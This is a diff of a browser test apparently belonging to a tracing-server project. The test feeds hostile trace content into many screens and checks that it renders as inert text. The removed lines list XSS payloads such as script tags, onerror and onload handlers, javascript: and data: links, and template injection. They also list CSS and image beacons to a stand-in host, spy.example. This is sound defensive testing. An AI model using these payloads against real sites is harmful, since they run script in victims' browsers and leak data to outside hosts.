@@ -4,38 +4,8 @@ import { Client, RunTree } from 'langsmith'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { drained } from '../../support/servers/server.ts'
 import { useWeir } from '../../support/servers/use-weir.ts'
+import { ALL_HOSTILE, HOSTILE, HOSTILE_SVG, hostileEffects, NO_EFFECTS } from './hostile-texts.ts'
 import { HAS_BROWSER, NO_BROWSER, signIn, useInterface } from '../../support/servers/web-interface.ts'
-
-/** What would run code or tell another host something, if it were drawn as more than text. */
-const HOSTILE = [
-  '<img src=x onerror="globalThis.pwned=1">',
-  '<script>globalThis.pwned=1</script>',
-  '<svg onload="globalThis.pwned=1"><animate onbegin="globalThis.pwned=1" attributeName="x"/></svg>',
-  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
-  '<style>@import url(https://spy.example/a.css);</style><link rel=prefetch href=https://spy.example/b>',
-  '<form action="https://spy.example"><button autofocus>x</button></form>',
-  '![a](https://spy.example/a.png?q=secret) [b](javascript:globalThis.pwned=1)',
-  '[c](data:text/html,<script>globalThis.pwned=1</script>) [d](vbscript:x) <https://spy.example/auto>',
-  '![e](//spy.example/e.png) ![f][ref]\n\n[ref]: https://spy.example/f.png "x"',
-  '[g]: https://spy.example/g\n\n> ![h](https://spy.example/h)\n\n| ![i](https://spy.example/i) |\n|---|',
-  '```html\n<img src=https://spy.example/code>\n```\n`<img src=https://spy.example/span>`',
-  '{{constructor.constructor("globalThis.pwned=1")()}} ${globalThis.pwned=1} &lt;img src=x&gt; &#x3c;b&#x3e;',
-  '\u202Egnp.exe\u202C \u0000 \uFFFF \u{1F4A9} ' + '<b>'.repeat(2000),
-  '__proto__',
-]
-const SVG = Buffer.from(
-  '<svg xmlns="http://www.w3.org/2000/svg" onload="globalThis.pwned=1"><image href="https://spy.example/s"/></svg>',
-)
-
-const all = HOSTILE.join('\n\n')
-
-/** What a page must not have. */
-const LOOK = `({
-  pwned: 'pwned' in globalThis,
-  elements: document.querySelectorAll('main :is(script, iframe, object, embed, base, style, link, form[action])').length,
-  links: [...document.links].filter(({ protocol }) => !/^(?:https?|mailto|blob):$/.test(protocol)).length,
-  pictures: [...document.images].filter(({ src }) => !src.startsWith('blob:') && !src.startsWith(location.origin + '/app/')).length,
-})`
 
 /** Content of every kind of block, with what is hostile in each field. */
 function blocks(): unknown[] {
@@ -43,12 +13,12 @@ function blocks(): unknown[] {
   return [
     ...HOSTILE.map((text) => ({ type: 'text', text })),
     media('https://spy.example/image.png'),
-    media(`data:image/svg+xml;base64,${SVG.toString('base64')}`),
+    media(`data:image/svg+xml;base64,${HOSTILE_SVG.toString('base64')}`),
     media('data:text/html;base64,PHNjcmlwdD5nbG9iYWxUaGlzLnB3bmVkPTE8L3NjcmlwdD4='),
     media('javascript:globalThis.pwned=1'),
     { type: 'input_audio', input_audio: { data: 'https://spy.example/a.wav', format: 'wav"><script>' } },
-    { type: 'file', file: { file_data: 'https://spy.example/f', filename: all.slice(0, 500) } },
-    { type: all.slice(0, 200), anything: HOSTILE },
+    { type: 'file', file: { file_data: 'https://spy.example/f', filename: ALL_HOSTILE.slice(0, 500) } },
+    { type: ALL_HOSTILE.slice(0, 200), anything: HOSTILE },
   ]
 }
 
@@ -62,14 +32,14 @@ describe.skipIf(!HAS_BROWSER)(`hostile traces and pages in the browser${NO_BROWS
     const client = new Client({ apiUrl: weir.url, apiKey: weir.key })
     const hostile = Object.fromEntries(HOSTILE.map((text) => [text, text]))
     const root = new RunTree({
-      name: all.slice(0, 200),
+      name: ALL_HOSTILE.slice(0, 200),
       run_type: 'chain',
       client,
       project_name: HOSTILE[0] ?? '',
       inputs: { ...hostile, deep: [[hostile]] },
       tags: HOSTILE.slice(0, 4),
       metadata: { ...hostile, thread_id: HOSTILE[0] ?? '' },
-      attachments: { picture: ['image/svg+xml', SVG], page: ['text/html', Buffer.from(all)] },
+      attachments: { picture: ['image/svg+xml', HOSTILE_SVG], page: ['text/html', Buffer.from(ALL_HOSTILE)] },
     })
     await root.postRun()
     const call = root.createChild({
@@ -84,13 +54,13 @@ describe.skipIf(!HAS_BROWSER)(`hostile traces and pages in the browser${NO_BROWS
       type: 'function',
       function: { name: text, arguments: JSON.stringify(hostile) },
     }))
-    await call.end({ choices: [{ message: { role: 'assistant', content: all, tool_calls: calls } }] })
+    await call.end({ choices: [{ message: { role: 'assistant', content: ALL_HOSTILE, tool_calls: calls } }] })
     await call.patchRun()
-    const retriever = root.createChild({ name: 'search', run_type: 'retriever', inputs: { q: all } })
+    const retriever = root.createChild({ name: 'search', run_type: 'retriever', inputs: { q: ALL_HOSTILE } })
     await retriever.postRun()
     await retriever.end({ documents: HOSTILE.map((text) => ({ page_content: text, metadata: hostile })) })
     await retriever.patchRun()
-    await root.end(hostile, all)
+    await root.end(hostile, ALL_HOSTILE)
     await root.patchRun()
     await client.awaitPendingTraceBatches()
     await drained(weir)
@@ -98,8 +68,8 @@ describe.skipIf(!HAS_BROWSER)(`hostile traces and pages in the browser${NO_BROWS
     await weir.json('/api/v1/feedback', {
       run_id: root.id,
       key: HOSTILE[0],
-      value: all,
-      comment: all,
+      value: ALL_HOSTILE,
+      comment: ALL_HOSTILE,
       correction: hostile,
     })
     const { share_token } = await weir.json<{ share_token: string }>(`/api/v2/runs/${root.id}/share`, {
@@ -109,14 +79,6 @@ describe.skipIf(!HAS_BROWSER)(`hostile traces and pages in the browser${NO_BROWS
     ids = { project: session_id, trace: root.id, call: call.id, share: share_token }
     await signIn(used.current().page, weir)
   })
-
-  /** Opens everything that is folded, and every picture that could be loaded. */
-  async function unfold(): Promise<void> {
-    const { page } = used.current()
-    await page.evaluate("document.querySelectorAll('details').forEach((one) => { one.open = true })")
-    for (const button of await page.locator('button[aria-expanded="false"]').all())
-      await button.click({ timeout: 2000 }).catch(() => undefined)
-  }
 
   it('every screen shows it as text: nothing runs, nothing is loaded, the policy has nothing to report', async () => {
     const { page, open, faults } = used.current()
@@ -131,13 +93,12 @@ describe.skipIf(!HAS_BROWSER)(`hostile traces and pages in the browser${NO_BROWS
       [`/traces/${ids.trace}?view=messages`, 'assistant'],
       [`/compare?a=${ids.call}&b=${ids.trace}`, 'Parameters and metadata'],
       [`/public/${ids.share}/r?run=${ids.call}`, 'Output'],
+      [`/playground?from=${ids.call}`, 'Source run'],
     ] as const
     for (const [path, sign] of screens) {
       await open(path)
       await page.getByText(sign).first().waitFor()
-      await unfold()
-      const found = await page.evaluate(LOOK)
-      expect([path, found]).toEqual([path, { pwned: false, elements: 0, links: 0, pictures: 0 }])
+      expect([path, await hostileEffects(page)]).toEqual([path, NO_EFFECTS])
     }
     expect(faults).toEqual([])
   })
